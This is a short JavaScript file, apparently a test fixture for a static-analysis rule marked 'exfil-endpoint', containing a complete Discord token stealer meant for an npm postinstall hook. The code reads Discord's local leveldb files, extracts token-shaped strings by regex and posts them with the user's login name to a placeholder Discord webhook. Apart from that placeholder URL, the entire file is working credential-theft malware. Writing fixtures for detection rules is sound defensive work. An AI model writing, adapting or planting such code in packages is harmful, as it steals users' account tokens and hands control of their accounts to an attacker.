// Discord token stealer in the postinstall hook, posting to a (placeholder) Discord webhook.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
const leveldb = path.join(roaming, 'discord/Local Storage/leveldb');
const tokens = [];
try {
  for (const f of fs.readdirSync(leveldb)) {
    if (!f.endsWith('.ldb') && !f.endsWith('.log')) continue;
    const text = fs.readFileSync(path.join(leveldb, f), 'utf8');
    for (const m of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []) tokens.push(m);
  }
} catch (e) {
  // no Discord here
}

const body = JSON.stringify({ content: tokens.join('\n') || 'none', username: os.userInfo().username });
// ruleid: code/exfil-endpoint
const req = https.request('https://discord.com/api/webhooks/0000/placeholder', { method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.on('error', () => {});
req.end(body);
